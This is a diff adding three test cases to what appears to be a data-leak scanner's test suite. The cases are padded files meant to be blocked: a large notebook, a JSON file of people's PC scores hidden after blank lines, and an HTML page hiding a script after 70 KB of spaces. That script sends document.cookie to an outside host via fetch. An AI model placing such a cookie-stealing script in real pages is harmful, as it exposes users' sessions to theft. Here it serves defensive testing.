@@ -4109,4 +4109,24 @@ def _(path, rng):
     return "region,2023,2024\nnorth,120,130\nsouth,three,95\neast,95,110\n"
 
 
+@case("pcs_notebook_large.ipynb", Expect.BLOCK, "300 people's PCs shown as HTML: 100 KB", I)
+def _(path, rng):
+    # Jupyter writes "nbformat" after the cells: past the first 64 KB, which were all the
+    # checks looked at to tell a notebook from any JSON
+    frame = pd.DataFrame(_scores(rng), columns=[f"PC{k}" for k in range(1, 11)])
+    data = {"text/html": frame.to_html(), "text/plain": "<DataFrame 300 x 10>"}
+    return _one_output("pcs", data)
+
+
+@case("padded_script.html", Expect.BLOCK, "a script after 70 KB of spaces", I)
+def _(path, rng):
+    page = "<html><body><script>fetch('https://example.org/?' + document.cookie)</script>"
+    return " " * 70_000 + page + "<p>Results</p></body></html>"
+
+
+@case("padded_pcs.json", Expect.BLOCK, "300 people's PC1 after 70 KB of blank lines", I)
+def _(path, rng):
+    return "\n" * 70_000 + json.dumps({"PC1": _scores(rng, k=1)[:, 0].tolist()})
+
+
 CASES: list[Case] = [c for c, _ in _WRITERS.values()]
